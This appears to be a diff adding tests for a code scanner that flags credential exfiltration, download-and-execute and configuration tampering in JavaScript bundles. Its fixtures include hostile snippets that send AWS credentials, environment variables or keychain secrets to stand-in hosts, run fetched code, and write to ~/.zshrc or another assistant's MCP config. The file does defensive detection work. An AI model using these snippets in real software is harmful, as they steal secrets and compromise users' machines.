@@ -1,0 +1,102 @@
+import * as assert from 'node:assert/strict';
+import { RULES } from '../../src/core/rules';
+import { scanWith } from '../helpers/ruleTester';
+
+const only = (id: string, code: string, own: string[] = []) => scanWith(RULES, code, { ownVendors: own }).filter(f => f.ruleId === id);
+
+describe('correlation: exfiltration', () => {
+  it('flags a credential file read and a network call in one function, at the call, with the read related', () => {
+    const code = 'const fs=require("fs"),p=require("path"),o=require("os");\nasync function r(){const t=fs.readFileSync(p.join(o.homedir(),".aws","credentials"),"utf8");await fetch("https://collector.example.io/u",{method:"POST",body:t})}';
+    const [x, ...rest] = only('exfiltration', code);
+    assert.equal(rest.length, 0);
+    assert.equal(x.severity, 'high');
+    assert.equal(x.column, code.split('\n')[1].indexOf('fetch') + 1);
+    assert.ok(x.related.some(r => r.message.startsWith('credential-read') && r.column === code.split('\n')[1].indexOf('p.join') + 1));
+    assert.match(x.message, /AWS credentials .* network call \(collector\.example\.io\)/);
+  });
+
+  it('flags the whole environment serialised into a request body in a closure', () => {
+    const code = 'function f(u){return async()=>{await fetch(u,{body:JSON.stringify(process.env)})}}';
+    assert.equal(only('exfiltration', code)[0].severity, 'high');
+  });
+
+  it('is medium when only identifiers (host name, machine id) meet a network call', () => {
+    const code = 'const os=require("os");function t(){const h=os.hostname();navigator.sendBeacon("/t",h)}';
+    assert.equal(only('exfiltration', code)[0].severity, 'medium');
+  });
+
+  it('follows a machine id returned by another function into the request it is sent with (as Continue CLI does)', () => {
+    const code = 'const m=require("node-machine-id");function aIo(){return m.machineIdSync()}\nasync function SCt(e){try{let t=aIo(),n=await fetch(`https://api.continue.dev/cn/info?id=${encodeURIComponent(t)}`,{signal:e});return n}catch(t){return null}}';
+    const [x] = only('exfiltration', code);
+    assert.equal(x.severity, 'medium');
+    assert.deepEqual([x.line, x.column], [2, code.split('\n')[1].indexOf('fetch') + 1]);
+    assert.ok(x.related.some(r => r.line === 1 && r.message.startsWith('machine-id')));
+    assert.match(x.message, /machine id .*api\.continue\.dev.*flowing into the call/);
+  });
+
+  it('is medium for a secret that only flows in from a helper towards a computed destination, high towards a foreign host', () => {
+    const helper = 'const cp=require("child_process");function k(){return cp.execSync(`security find-generic-password -a $USER -w -s "${n}"`)}\n';
+    const own = only('exfiltration', `${helper}async function p(b){return Z1.post(\`\${b}/api/auth/x\`,{},{headers:{k:k()}})}`);
+    assert.deepEqual(own.map(f => f.severity), ['medium']);
+    const foreign = only('exfiltration', `${helper}async function p(){return fetch("https://collect.example.io/k",{headers:{k:k()}})}`, ['anthropic']);
+    assert.deepEqual(foreign.map(f => f.severity), ['high']);
+  });
+
+  it('does not link a source in another function that the call does not use', () => {
+    const code = 'const m=require("node-machine-id");function a(){return m.machineIdSync()}\nasync function b(u){return fetch(u)}';
+    assert.deepEqual(only('exfiltration', code), []);
+  });
+
+  it("does not count the assistant's own key store next to its own API call", () => {
+    const code = 'async function l(h){const c=await readFile(`${h}/.claude/.credentials.json`);return fetch("https://api.anthropic.com/v1/x",c)}';
+    assert.deepEqual(only('exfiltration', code, ['anthropic']), []);
+  });
+
+  it('does not correlate a read and a call in unrelated functions of a big bundle', () => {
+    const pad = `var pad="${'x'.repeat(70000)}";`;
+    const code = `${pad}function a(){return JSON.stringify(process.env)}\nfunction b(u){return fetch(u)}`;
+    assert.deepEqual(only('exfiltration', code), []);
+  });
+});
+
+describe('correlation: download-exec', () => {
+  it('flags network, write and process start in one function as medium, at the process start', () => {
+    const code = 'const{execFileSync:x}=require("child_process"),fs=require("fs");async function u(U,p){const r=await fetch(U);fs.writeFileSync(p,Buffer.from(await r.arrayBuffer()));fs.chmodSync(p,493);x(p,["--version"])}';
+    const [d] = only('download-exec', code);
+    assert.equal(d.severity, 'medium');
+    assert.equal(d.column, code.indexOf('x(p') + 1);
+    assert.equal(d.related.filter(r => r.message.startsWith('file-write')).length, 2);
+  });
+
+  it('flags fetched text evaluated as code as high', () => {
+    const code = 'async function g(u){const s=await (await fetch(u)).text();return new Function(s)()}';
+    assert.equal(only('download-exec', code)[0].severity, 'high');
+  });
+
+  it('leaves a download that is only saved, and a polyfill eval next to a fetch', () => {
+    assert.deepEqual(only('download-exec', 'const fs=require("fs");async function s(u,p){fs.writeFileSync(p,await (await fetch(u)).text())}'), []);
+    assert.deepEqual(only('download-exec', 'async function g(u){const G=Function("return this")();return fetch(u)}'), []);
+  });
+});
+
+describe('correlation: config-tamper', () => {
+  it("flags a write next to another assistant's configuration as high", () => {
+    const code = 'const fs=require("fs");function i(h,c){fs.writeFileSync(`${h}/.cursor/mcp.json`,JSON.stringify(c))}';
+    const [t] = only('config-tamper', code, ['anthropic']);
+    assert.equal(t.severity, 'high');
+    assert.equal(t.column, code.indexOf('fs.writeFileSync') + 1);
+    assert.match(t.message, /Cursor configuration/);
+  });
+
+  it('flags an append to a shell start-up file as medium', () => {
+    const code = 'import{appendFile as a}from"fs/promises";import{join as j}from"path";import{homedir as h}from"os";async function i(){await a(j(h(),".zshrc"),"export PATH=x\\n")}';
+    const [t] = only('config-tamper', code);
+    assert.equal(t.severity, 'medium');
+    assert.ok(t.related.some(r => r.message.includes('~/.zshrc')));
+  });
+
+  it("leaves the assistant's own configuration and reads of start-up files", () => {
+    assert.deepEqual(only('config-tamper', 'const fs=require("fs");function s(h,c){fs.writeFileSync(`${h}/.claude/settings.json`,c)}', ['anthropic']), []);
+    assert.deepEqual(only('config-tamper', 'const fs=require("fs");function r(h){return fs.readFileSync(`${h}/.bashrc`,"utf8")}'), []);
+  });
+});
